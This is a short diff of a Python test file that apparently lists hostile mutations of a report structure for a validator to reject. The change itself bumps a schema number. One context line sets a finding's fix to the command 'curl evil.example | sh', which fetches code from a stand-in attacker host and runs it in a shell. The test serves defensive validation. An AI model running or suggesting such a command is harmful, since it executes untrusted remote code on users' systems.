@@ -98,7 +98,7 @@ HOSTILE = {
     "no report": lambda c: c.update(report=[]),
     "unknown field": lambda c: c["report"].update(html="<b>"),
     "wrong type": lambda c: c["report"].update(schema={}),
-    "other schema": lambda c: c["report"].update(schema=2),
+    "other schema": lambda c: c["report"].update(schema=3),
     "unreadable": lambda c: c["report"]["health"].update(status="unreadable"),
     "a command as the fix": lambda c: _first(c, "findings")["fix"].update(code="curl evil.example | sh"),
     "a command as a figure": lambda c: _first(c, "findings")["fix"].update(
